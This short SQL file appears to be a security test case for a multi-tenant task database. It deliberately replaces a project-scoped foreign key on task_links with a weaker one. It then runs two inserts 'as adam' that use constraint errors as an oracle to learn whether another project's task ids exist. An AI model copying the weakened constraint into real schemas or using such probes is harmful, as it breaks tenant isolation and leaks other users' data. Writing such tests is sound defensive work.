-- channel: foreign key oracle
-- object: public.task_links
-- says: The blocked task may be anywhere, since its key no longer includes the project.
alter table public.task_links drop constraint task_links_project_id_blocks_id_fkey;
alter table public.task_links add foreign key (blocks_id)
references public.tasks (id) on delete cascade;
-- exploit as adam
insert into public.task_links (project_id, task_id, blocks_id)
values (
    'a8000000-0000-4000-8000-000000000001', 'a9000000-0000-4000-8000-000000000001',
    'b9000000-0000-4000-8000-0000000000ff'
);
insert into public.task_links (project_id, task_id, blocks_id)
values (
    'a8000000-0000-4000-8000-000000000001', 'a9000000-0000-4000-8000-000000000001',
    'b9000000-0000-4000-8000-000000000001'
);
-- leaks when differs
